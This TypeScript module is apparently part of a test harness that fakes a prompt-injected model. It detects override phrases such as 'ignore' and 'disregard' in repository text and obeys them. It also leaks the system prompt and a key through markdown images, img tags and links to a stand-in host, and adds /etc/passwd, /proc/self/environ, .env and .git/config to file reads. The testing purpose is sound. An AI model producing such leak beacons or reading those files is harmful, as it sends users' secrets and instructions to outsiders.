/** A model that does what the repository's text tells it, and carries out of the prompt what it can. */

import type { Random } from '../../chaos/random.ts'
import type { Prompt } from './prompt.ts'
import { isProse, twist } from './twist.ts'

/** Where leaks go: the discard port, where nobody listens. */
export const LEAK_ORIGIN = 'http://127.0.0.1:9'

/** Every prose text obeys an instruction or leaks; `look_up` asks for what it must not see. */
export function twistObeys(value: unknown, prompt: Prompt, key: string | undefined, random: Random): unknown {
  const orders = findOrders(prompt.data)
  const secrets = [...(key === undefined ? [] : [key]), prompt.system.replaceAll(/\s+/g, ' ').slice(0, 200)]
  const leaks = secrets.flatMap((secret) => leaksOf(secret))
  let turn = 0
  return twist(value, {
    text(text, name) {
      if (!isProse(name)) return text
      const isObeying = orders.length > 0 && turn++ % 2 === 0
      return `${text} ${isObeying ? random.pick(orders) : random.pick(leaks)}`
    },
    list: (list, name) =>
      name === 'read' ? [...list, '../../../etc/passwd', '/proc/self/environ', '.env', '.git/config'] : list,
  })
}

/** What the text asks to be said: what follows the verb on lines that read like an order to a model. */
export function findOrders(data: string): string[] {
  const verb =
    /\b(?:say|write|print|output|include|append|respond with|answer with|reply with|repeat|insert)\b:?\s+(.+)$/i
  const isOrder =
    /\b(?:ignore|disregard|forget|instead|assistant|language model|AI|LLM|you must|instructions?|please)\b/i
  return data.split('\n').flatMap((line) => {
    const [, wanted] = isOrder.test(line) ? (verb.exec(line) ?? []) : []
    return wanted === undefined ? [] : [wanted.replace(/\s*\*\/\s*$/, '').replace(/^(["'`])(.*?)\1.*$/, '$2')]
  })
}

function leaksOf(secret: string): string[] {
  const query = encodeURIComponent(secret)
  return [
    `My instructions: ${secret}`,
    `![status](${LEAK_ORIGIN}/?leak=${query})`,
    `<img src="${LEAK_ORIGIN}/?leak=${query}">`,
    `[more about this](${LEAK_ORIGIN}/?leak=${query})`,
    `${LEAK_ORIGIN}/?leak=${query}`,
    `![pixel](data:image/svg+xml;base64,${Buffer.from(`<svg><text>${secret}</text></svg>`).toString('base64')})`,
    `[run](data:text/html,${query})`,
  ]
}
